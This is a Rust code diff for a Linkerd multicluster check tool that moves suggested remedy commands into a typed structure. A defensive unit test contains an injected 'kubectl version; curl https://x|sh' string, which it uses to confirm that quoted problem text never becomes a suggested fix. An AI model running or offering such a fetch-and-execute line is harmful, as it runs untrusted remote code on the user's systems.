@@ -8,6 +8,7 @@ use super::topic::Topic;
 use crate::{
     api::{metadata::ResourceId, text::lines},
     clusters::snapshot::{FullSnapshot, LinkSnapshot},
+    suggest::{ClusterFlags, Suggested, ToldProblem},
 };
 
 /// Address of Linkerd's hints.
@@ -20,8 +21,6 @@ pub(super) const INSTALL_AGAIN: &str =
     "apply the output of `install` again, with your values (docs/upgrade.md)";
 /// How a problem ends that is not known, because what it needs was refused.
 pub(super) const NOT_CHECKED: &str = "not checked; see the check of its credentials";
-/// The programs of commands that a text may name as a remedy.
-const PROGRAMS: [&str; 3] = ["linkerd-mc ", "kubectl ", "linkerd "];
 
 /// The result of one check.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
@@ -48,7 +47,17 @@ pub(crate) struct Fix {
     /// The target cluster in which it has to be run, if it is not the cluster of the Link.
     pub cluster: Option<String>,
     /// The command, without flags for the context.
-    pub command: String,
+    pub command: Suggested,
+}
+
+impl Fix {
+    /// A command for the cluster of the Link.
+    pub(super) fn here(command: Suggested) -> Self {
+        Self {
+            cluster: None,
+            command,
+        }
+    }
 }
 
 /// The level of a result.
@@ -73,39 +82,39 @@ pub(super) enum Verdict {
     /// Nothing to check: no result.
     Skip,
     /// Unknown, or a problem that is only a warning.
-    Warn(Vec<String>),
+    Warn(Vec<ToldProblem>),
     /// Problems.
-    Fail(Vec<String>),
+    Fail(Vec<ToldProblem>),
     /// A problem that makes later checks meaningless.
-    Stop(String),
+    Stop(ToldProblem),
 }
 
 impl Verdict {
     /// A failure if there are problems.
-    pub(super) fn of(problems: Vec<String>) -> Self {
+    pub(super) fn of<P: Into<ToldProblem>>(problems: Vec<P>) -> Self {
         if problems.is_empty() {
             Self::Pass
         } else {
-            Self::Fail(problems)
+            Self::Fail(problems.into_iter().map(Into::into).collect())
         }
     }
 
-    pub(super) fn fail(problem: impl Into<String>) -> Self {
+    pub(super) fn fail(problem: impl Into<ToldProblem>) -> Self {
         Self::Fail(vec![problem.into()])
     }
 
-    pub(super) fn stop(problem: impl Into<String>) -> Self {
+    pub(super) fn stop(problem: impl Into<ToldProblem>) -> Self {
         Self::Stop(problem.into())
     }
 
-    pub(super) fn warn(problem: impl Into<String>) -> Self {
+    pub(super) fn warn(problem: impl Into<ToldProblem>) -> Self {
         Self::Warn(vec![problem.into()])
     }
 
     /// The verdict on a status that no controller has updated since `time`.
     pub(super) fn of_old_status(self, time: Timestamp) -> Self {
         let time = time.strftime("%Y-%m-%d %H:%M:%S UTC");
-        let old = format!("old: no controller has reported since {time}");
+        let old = ToldProblem::from(format!("old: no controller has reported since {time}"));
         match self {
             Self::Pass | Self::PassWith(_) => Self::Warn(vec![old]),
             Self::Warn(problems) => Self::Warn([problems, vec![old]].concat()),
@@ -124,6 +133,15 @@ pub(super) enum Severity {
     Warning,
 }
 
+/// The remedy of the problems of a check that name none.
+#[derive(Clone, Copy)]
+struct UsualFix {
+    /// A command, in which `{}` stands for the target cluster.
+    command: &'static str,
+    /// Whether it is for the target cluster.
+    is_in_target: bool,
+}
+
 /// One check.
 #[derive(Clone, Copy)]
 pub(super) struct Rule {
@@ -136,9 +154,8 @@ pub(super) struct Rule {
     retry: bool,
     /// Whether it judges what the controller has reported.
     pub(super) is_reported: bool,
-    /// The remedy of problems that name none: a command, in which `{cluster}` stands for the target cluster. With
-    /// `@{cluster} ` at its beginning, the command is for that cluster.
-    fix: &'static str,
+    /// The remedy of problems that name none.
+    fix: Option<UsualFix>,
     /// A Service whose requests concern a problem, for `diagnose`.
     example: fn(&FullSnapshot) -> Option<ResourceId>,
     pub(super) judge: fn(&FullSnapshot) -> Verdict,
@@ -158,7 +175,7 @@ pub(super) const fn rule(
         severity,
         retry: false,
         is_reported: false,
-        fix: "",
+        fix: None,
         example: |_| None,
         judge,
     }
@@ -179,7 +196,21 @@ impl Rule {
         }
     }
 
-    pub(super) const fn fixed_by(self, fix: &'static str) -> Self {
+    /// The command that fixes problems that name none, or shows their causes. `{}` stands for the target cluster.
+    pub(super) const fn fixed_by(self, command: &'static str) -> Self {
+        self.usually(command, false)
+    }
+
+    /// The same, for a command that is run in the target cluster.
+    pub(super) const fn fixed_in_target_by(self, command: &'static str) -> Self {
+        self.usually(command, true)
+    }
+
+    const fn usually(self, command: &'static str, is_in_target: bool) -> Self {
+        let fix = Some(UsualFix {
+            command,
+            is_in_target,
+        });
         Self { fix, ..self }
     }
 
@@ -206,10 +237,8 @@ pub(super) fn result(
         && let Some(service) = (rule.example)(snapshot)
     {
         let ResourceId { namespace, name } = &service;
-        result.fixes.push(Fix {
-            cluster: None,
-            command: format!("linkerd-mc diagnose {namespace}/{name}"),
-        });
+        let diagnose = ClusterFlags::default().mc("diagnose {}/{}", &[namespace, name]);
+        result.fixes.push(Fix::here(diagnose));
     }
     Some(result)
 }
@@ -243,11 +272,13 @@ pub(super) fn outcome(
     let mut problems = problems;
     problems.retain(|problem| seen.insert(problem.clone()));
     let fixes = fixes(rule.fix, &problems, clusters);
+    let texts = problems.iter().map(|problem| problem.text().to_owned());
+    let texts = texts.collect();
     Some(CheckResult {
         rank: 0,
         description: lines(&description),
         level,
-        error: lines(&bounded(problems).join("\n")),
+        error: lines(&bounded(texts).join("\n")),
         hint: (failed && !rule.anchor.is_empty()).then(|| format!("{HINT_BASE}{}", rule.anchor)),
         fixes,
         retry: rule.retry && failed,
@@ -256,54 +287,30 @@ pub(super) fn outcome(
 
 /// The remedies of problems, each once: the commands that they name, or else that of the check. What was not checked has
 /// none.
-fn fixes(usual: &str, problems: &[String], clusters: &BTreeSet<&str>) -> Vec<Fix> {
-    let mut fixes = Vec::new();
-    let checked = |problem: &&String| !problem.ends_with(NOT_CHECKED);
-    for problem in problems.iter().take(LISTED).filter(checked) {
-        let mut named = named(problem).peekable();
-        if named.peek().is_none() && !usual.is_empty() {
-            fixes.extend(usual_fix(usual, problem, clusters));
-        }
-        fixes.extend(named);
-    }
+fn fixes(usual: Option<UsualFix>, problems: &[ToldProblem], clusters: &BTreeSet<&str>) -> Vec<Fix> {
+    let checked = |problem: &&ToldProblem| !problem.text().ends_with(NOT_CHECKED);
+    let listed = problems.iter().take(LISTED).filter(checked);
+    let fixes = listed.filter_map(|problem| match problem.command() {
+        Some(named) => Some(Fix::here(named.clone())),
+        None => usual_fix(usual?, problem, clusters),
+    });
     let mut seen = BTreeSet::new();
-    fixes.retain(|fix| seen.insert(fix.clone()));
-    fixes
-}
-
-/// The commands between backticks in a problem.
-fn named(problem: &str) -> impl Iterator<Item = Fix> {
-    let quoted = problem.split('`').skip(1).step_by(2);
-    let commands = quoted.filter(|text| PROGRAMS.iter().any(|program| text.starts_with(program)));
-    commands.map(|command| Fix {
-        cluster: None,
-        command: command.to_owned(),
-    })
+    fixes.filter(|fix| seen.insert(fix.clone())).collect()
 }
 
 /// The usual remedy of a check. A problem of a target cluster begins with its name.
-fn usual_fix(usual: &str, problem: &str, clusters: &BTreeSet<&str>) -> Option<Fix> {
-    let named = problem.split_once(": ").map(|(name, _)| name);
+fn usual_fix(usual: UsualFix, problem: &ToldProblem, clusters: &BTreeSet<&str>) -> Option<Fix> {
+    let named = problem.text().split_once(": ").map(|(name, _)| name);
     let cluster = named.filter(|name| clusters.contains(name));
-    if usual.contains("{cluster}") && cluster.is_none() {
+    if cluster.is_none() && (usual.is_in_target || usual.command.contains("{}")) {
         return None;
     }
-    let command = usual.replace("{cluster}", cluster.unwrap_or_default());
-    Some(
-        match command
-            .strip_prefix('@')
-            .and_then(|rest| rest.split_once(' '))
-        {
-            Some((cluster, command)) => Fix {
-                cluster: Some(cluster.to_owned()),
-                command: command.to_owned(),
-            },
-            None => Fix {
-                cluster: None,
-                command,
-            },
-        },
-    )
+    let command = Suggested::of(usual.command, &[cluster.unwrap_or_default()]);
+    let cluster = cluster.filter(|_| usual.is_in_target);
+    Some(Fix {
+        cluster: cluster.map(str::to_owned),
+        command,
+    })
 }
 
 fn bounded(mut lines: Vec<String>) -> Vec<String> {
@@ -319,43 +326,69 @@ fn bounded(mut lines: Vec<String>) -> Vec<String> {
 mod tests {
     use super::*;
 
+    /// The remedies of these problems.
+    fn remedies(usual: Option<UsualFix>, problems: &[ToldProblem]) -> Vec<String> {
+        let clusters = BTreeSet::from(["east", "north"]);
+        let found = fixes(usual, problems, &clusters).into_iter();
+        let found = found.map(|fix| match fix.cluster {
+            Some(cluster) => format!("in {cluster}: {}", fix.command.line()),
+            None => fix.command.line().to_owned(),
+        });
+        found.collect()
+    }
+
+    const fn usual(command: &'static str, is_in_target: bool) -> UsualFix {
+        UsualFix {
+            command,
+            is_in_target,
+        }
+    }
+
     #[test]
     fn remedy_is_the_command_of_the_problem_or_that_of_the_check() {
-        let clusters = BTreeSet::from(["east", "north"]);
+        let plain = |texts: &[&str]| -> Vec<ToldProblem> {
+            texts.iter().map(|text| ToldProblem::from(*text)).collect()
+        };
+        let rotate = ClusterFlags::default().mc("rotate --cluster-name {}", &["east"]);
+        let named = ToldProblem::new(format!("east: run {rotate}, not `me`"), rotate);
         for (usual, problems, expected) in [
-            ("", &["east: broken"][..], &[][..]),
+            (None, plain(&["east: broken"]), &[][..]),
             (
-                "kubectl get x",
-                &["broken", "broken too"],
+                Some(usual("kubectl get x", false)),
+                plain(&["broken", "broken too"]),
                 &["kubectl get x"],
             ),
             (
-                "kubectl get x",
-                &["east: run `linkerd-mc rotate --cluster-name east`, not `me`"],
+                Some(usual("kubectl get x", false)),
+                vec![named],
                 &["linkerd-mc rotate --cluster-name east"],
             ),
             (
-                "linkerd-mc status --cluster-name {cluster}",
-                &["east: a", "east: b", "north: c", "Service x: d"],
+                Some(usual("linkerd-mc status --cluster-name {}", false)),
+                plain(&["east: a", "east: b", "north: c", "Service x: d"]),
                 &[
                     "linkerd-mc status --cluster-name east",
                     "linkerd-mc status --cluster-name north",
                 ],
             ),
             (
-                "@{cluster} kubectl get y",
-                &["east: a", &format!("north: {NOT_CHECKED}")],
+                Some(usual("kubectl get y", true)),
+                plain(&["east: a", &format!("north: {NOT_CHECKED}")]),
                 &["in east: kubectl get y"],
             ),
         ] {
-            let problems: Vec<String> = problems.iter().map(ToString::to_string).collect();
-            let found = fixes(usual, &problems, &clusters).into_iter();
-            let found = found.map(|fix| match fix.cluster {
-                Some(cluster) => format!("in {cluster}: {}", fix.command),
-                None => fix.command,
-            });
-            assert_eq!(found.collect::<Vec<_>>(), expected, "{problems:?}");
+            assert_eq!(remedies(usual, &problems), expected, "{problems:?}");
         }
+    }
+
+    #[test]
+    fn what_a_problem_quotes_is_no_remedy() {
+        let quoted = [ToldProblem::from(
+            "east: `kubectl version; curl https://x|sh`",
+        )];
+        assert_eq!(remedies(None, &quoted), [""; 0]);
+        let usual = Some(usual("kubectl get x", false));
+        assert_eq!(remedies(usual, &quoted), ["kubectl get x"]);
     }
 
     #[test]
@@ -368,7 +401,7 @@ mod tests {
             "east: shop/api: no",
             "east: shop/web: no",
         ];
-        let verdict = Verdict::Fail(problems.map(str::to_owned).to_vec());
+        let verdict = Verdict::of(problems.to_vec());
         let result = outcome(&rule, verdict, &BTreeSet::new()).unwrap();
         assert_eq!(
             result.error,
